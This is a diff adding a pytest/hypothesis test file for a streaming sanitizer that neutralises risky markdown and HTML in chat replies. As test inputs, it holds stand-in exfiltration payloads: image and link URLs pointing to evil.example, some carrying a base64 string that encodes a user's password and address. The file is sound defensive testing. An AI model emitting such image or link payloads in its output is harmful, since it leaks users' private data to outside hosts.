@@ -1,0 +1,280 @@
+"""StreamSanitizer: equal to one-shot for any chunking, safe at every prefix, bounded."""
+
+from __future__ import annotations
+
+import asyncio
+import re
+import subprocess
+import sys
+from collections.abc import AsyncIterator
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from attacks import violations
+from conftest import policy_for, sanitizer_for
+from fixture_files import Case, all_cases
+from rendersafe import (
+    Policy,
+    Reason,
+    SanitizeError,
+    Sanitizer,
+    asanitize_stream,
+    sanitize,
+    sanitize_stream,
+)
+from test_properties import mixed
+
+CASES = all_cases()
+S = Sanitizer()
+PAYLOAD = "VGhlIHVzZXIncyBwYXNzd29yZCBpcyBodW50ZXIyIGFuZCBsaXZlcyBhdCAxMiBFbG0gU3Q="
+
+
+def healed(text: str) -> list[str]:
+    """What a "self-healing" streaming renderer (remend, Streamdown) shows for a
+    prefix: the text, and the text with each construct still open closed."""
+    variants = [text]
+    if text.rfind("](") > text.rfind(")"):
+        variants.append(text + ")")
+    if text.rfind("[") > text.rfind("]"):
+        variants.append(text + "](x)")
+    if re.search(r"<[a-zA-Z][^<>]*$", text):
+        variants.append(text + '">')
+    runs = re.findall(r"`+", text)
+    if len(runs) % 2:
+        variants.append(text + runs[-1])
+    return variants
+
+
+def _cuts(text: str, data: st.DataObject) -> list[str]:
+    sizes = data.draw(st.lists(st.integers(1, 8), min_size=1, max_size=len(text) + 1))
+    chunks: list[str] = []
+    pos = 0
+    while pos < len(text):
+        size = sizes[len(chunks) % len(sizes)]
+        chunks.append(text[pos : pos + size])
+        pos += size
+    return chunks
+
+
+def _stream(sanitizer: Sanitizer, chunks: list[str]) -> tuple[list[str], tuple[object, ...]]:
+    stream = sanitizer.stream()
+    outputs = [stream.feed(chunk) for chunk in chunks]
+    outputs.append(stream.close())
+    return outputs, stream.findings
+
+
+@settings(max_examples=len(CASES) * 3, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.sampled_from(CASES), st.data())
+def test_any_chunking_equals_one_shot_on_the_fixtures(case: Case, data: st.DataObject) -> None:
+    sanitizer = sanitizer_for(case.path.parent)
+    expected = sanitizer.run(case.input)
+    outputs, findings = _stream(sanitizer, _cuts(case.input, data))
+    assert "".join(outputs) == expected.text
+    assert findings == expected.findings
+
+
+@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(mixed, st.data())
+def test_any_chunking_equals_one_shot_on_generated_replies(text: str, data: st.DataObject) -> None:
+    expected = S.run(text)
+    outputs, findings = _stream(S, _cuts(text, data))
+    assert "".join(outputs) == expected.text
+    assert findings == expected.findings
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.sampled_from([c for c in CASES if not c.input.isascii()] or CASES), st.data())
+def test_bytes_cut_inside_characters(case: Case, data: st.DataObject) -> None:
+    raw = case.input.encode("utf-8")
+    sizes = data.draw(st.lists(st.integers(1, 5), min_size=1, max_size=20))
+    sanitizer = sanitizer_for(case.path.parent)
+    stream, out, pos = sanitizer.stream(), [], 0
+    while pos < len(raw):
+        size = sizes[pos % len(sizes)]
+        out.append(stream.feed_bytes(raw[pos : pos + size]))
+        pos += size
+    out.append(stream.close())
+    assert "".join(out) == sanitizer.run(case.input).text
+
+
+def _assert_prefixes_safe(
+    sanitizer: Sanitizer, chunks: list[str], policy: Policy, payloads: list[str] | None = None
+) -> None:
+    """Render what has been sent after every chunk (and healed), as a client would."""
+    hosts = [*policy.allowed_image_hosts, *(["chat.example.com"] if policy.image_proxy else [])]
+    extra = {"payloads": payloads} if payloads else {}
+    stream, sent = sanitizer.stream(), ""
+    for chunk in [*chunks, None]:
+        out = stream.feed(chunk) if chunk is not None else stream.close()
+        if not out:
+            continue  # the same prefix as before: already checked
+        sent += out
+        for shown in healed(sent):
+            problems = violations(
+                shown, image_hosts=hosts, trusted_hosts=policy.trusted_link_hosts, **extra
+            )
+            assert problems == [], shown
+
+
+@pytest.mark.parametrize("case", [c for c in CASES if not c.benign], ids=lambda c: c.id)
+def test_every_prefix_is_safe_even_when_healed(case: Case) -> None:
+    text = case.input
+    chunks = [text[i : i + 2] for i in range(0, len(text), 2)]
+    _assert_prefixes_safe(sanitizer_for(case.path.parent), chunks, policy_for(case.path.parent))
+
+
+@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(mixed)
+def test_every_prefix_of_generated_replies_is_safe(text: str) -> None:
+    chunks = [text[i : i + 3] for i in range(0, len(text), 3)]
+    _assert_prefixes_safe(S, chunks, S.policy, payloads=[PAYLOAD[:24]])
+
+
+def test_late_definition_never_turns_earlier_text_into_an_image() -> None:
+    text = (
+        "![a][r] and more text\n\nA paragraph.\n\nAnother one.\n\n[r]: https://evil.example/r.png\n"
+    )
+    stream, sent = S.stream(), ""
+    for char in text:
+        sent += stream.feed(char)
+        assert violations(sent) == []
+    sent += stream.close()
+    assert "evil.example" not in sent
+    assert Reason.IMAGE_HOST_NOT_ALLOWED in {r for f in stream.findings for r in f.reasons}
+
+
+def test_honest_prose_goes_out_at_once() -> None:
+    stream = S.stream()
+    assert stream.feed("Hello there, this is plain prose ") == "Hello there, this is plain prose "
+    assert stream.feed("and a wor") == "and a "  # the last word may still become a URL
+    assert stream.feed("d.\n\nNew paragraph ") == "word.\n\nNew paragraph "
+    assert stream.held == 0
+
+
+@pytest.mark.parametrize(
+    ("text", "waits_from"),
+    [
+        ("see ![chart](https://evil.example/c.png", "![chart]"),
+        ("see [click](https://evil.example/?d=x", "[click]"),
+        ("see <https://evil.example/", "<https"),
+        ("see https://evil.example/?d=VGhl more", "https://"),
+        ("see www.evil.example/q more", "www."),
+        ('see <img src="https://evil.example/x.png', "<img"),
+        ("see <!-- hidden", "<!--"),
+        ("```\n![x](https://evil.example/x.png)\n", "![x]"),
+        ("[r]: https://evil.example/r.png", "[r]:"),
+        ("see &#91;x](https://evil.example/) and ", "&#91;"),
+    ],
+)
+def test_risky_constructs_are_held(text: str, waits_from: str) -> None:
+    stream = S.stream()
+    sent = stream.feed(text)
+    assert sent == text[: text.index(waits_from)]
+    assert stream.held == len(text) - len(sent)
+
+
+def test_backticks_do_not_hold_prose() -> None:
+    stream = S.stream()
+    assert stream.feed("use `pip install x` then ") == "use `pip install x` then "
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/x.png",
+        "[x](https://evil.example/?d=" + PAYLOAD,
+        "<img src=https://evil.example/x.png",
+        "```\n![x](https://evil.example/x.png)",
+        "<!--\n\n![x](https://evil.example/x.png)",
+    ],
+)
+def test_close_neutralises_what_is_unfinished(text: str) -> None:
+    stream = S.stream()
+    out = stream.feed(text) + stream.close()
+    assert out == sanitize(text)
+    assert "evil.example" not in out or "<" not in out
+
+
+def test_hold_back_is_bounded_and_the_opener_escaped() -> None:
+    policy = Policy(max_hold_chars=1024)
+    stream = Sanitizer(policy).stream()
+    out = stream.feed("![")
+    for _ in range(200):
+        out += stream.feed("filler text without a closing bracket ")
+        assert stream.held <= 1024
+    out += stream.feed("](https://evil.example/late.png)") + stream.close()
+    assert out.startswith("!\\[")
+    assert violations(out) == []
+
+
+_STREAM_MEGABYTES = """
+import resource, sys
+from rendersafe import Sanitizer
+megabytes = int(sys.argv[1])
+block = ("Plain words in a paragraph that goes on for a while, " * 40 + "see [docs](https://docs.python.org/3/).\\n\\n")
+stream, fed = Sanitizer().stream(), 0
+while fed < megabytes * 1_000_000:
+    stream.feed(block)
+    fed += len(block)
+stream.close()
+print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
+"""
+
+
+def _peak_kib(megabytes: int) -> int:
+    done = subprocess.run(
+        [sys.executable, "-c", _STREAM_MEGABYTES, str(megabytes)],
+        capture_output=True, text=True, check=True, timeout=300,
+    )  # fmt: skip
+    return int(done.stdout)
+
+
+def test_ten_megabytes_keep_memory_bounded() -> None:
+    """Peak memory streaming 10 MB is that of streaming 1 MB: nothing accumulates."""
+    assert _peak_kib(10) - _peak_kib(1) < 8_000
+
+
+def test_an_error_breaks_the_stream_and_sends_nothing_held(monkeypatch: pytest.MonkeyPatch) -> None:
+    stream = S.stream()
+    assert stream.feed("safe words ") == "safe words "
+    assert stream.feed("![x](https://evil.example/x.png)") == ""
+
+    def boom(*args: object) -> None:
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr("rendersafe.units.backstop", boom)
+    with pytest.raises(SanitizeError, match="boom"):
+        stream.feed("\n\nnext paragraph")
+    with pytest.raises(SanitizeError, match="broken"):
+        stream.feed("more")
+    with pytest.raises(SanitizeError, match="broken"):
+        stream.close()
+
+
+def test_closed_stream_refuses_more() -> None:
+    stream = S.stream()
+    stream.close()
+    with pytest.raises(SanitizeError, match="closed"):
+        stream.feed("x")
+
+
+def test_feed_takes_str() -> None:
+    with pytest.raises(TypeError, match="feed_bytes"):
+        S.stream().feed(b"bytes")  # type: ignore[arg-type]
+
+
+def test_sanitize_stream_and_async() -> None:
+    text = "Hi ![x](https://evil.example/x.png) there.\n\nBye."
+    chunks = [text[i : i + 5] for i in range(0, len(text), 5)]
+    assert "".join(sanitize_stream(chunks)) == sanitize(text)
+
+    async def source() -> AsyncIterator[str]:
+        for chunk in chunks:
+            yield chunk
+
+    async def collect() -> str:
+        return "".join([piece async for piece in asanitize_stream(source())])
+
+    assert asyncio.run(collect()) == sanitize(text)
